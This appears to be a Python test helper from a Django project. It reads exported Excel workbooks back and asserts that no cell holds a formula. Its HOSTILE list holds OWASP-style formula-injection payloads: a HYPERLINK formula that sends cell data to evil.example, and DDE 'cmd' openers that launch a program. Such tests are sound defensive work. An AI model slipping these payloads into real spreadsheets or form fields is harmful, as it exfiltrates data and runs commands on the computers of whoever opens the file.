"""Reading an exported workbook back, and text meant to run as a formula in it."""

from __future__ import annotations

import io
import zipfile

from django.utils import translation
from openpyxl import load_workbook

# OWASP's "CSV injection" openers, each a way a spreadsheet starts a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A2,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile(index: int, length: int = 200) -> str:
    """The openers in turn, one for each field; cut to fit a short field."""
    return HOSTILE[index % len(HOSTILE)][:length]


def exported_rows(response, columns) -> list[dict]:
    """Each row's cells by their column's English message id, after checking that
    the file is a download whose sheet holds no formula at all."""
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    content = response.getvalue()  # once: the file streams
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    with translation.override("en"):
        headers = [str(column.header) for column in columns]
    rows = sheet.iter_rows(min_row=2)
    return [dict(zip(headers, row, strict=True)) for row in rows]


def assert_text(cell, value: str) -> None:
    """Shown as typed and never evaluated."""
    assert (cell.value, cell.data_type) == (value, "s")
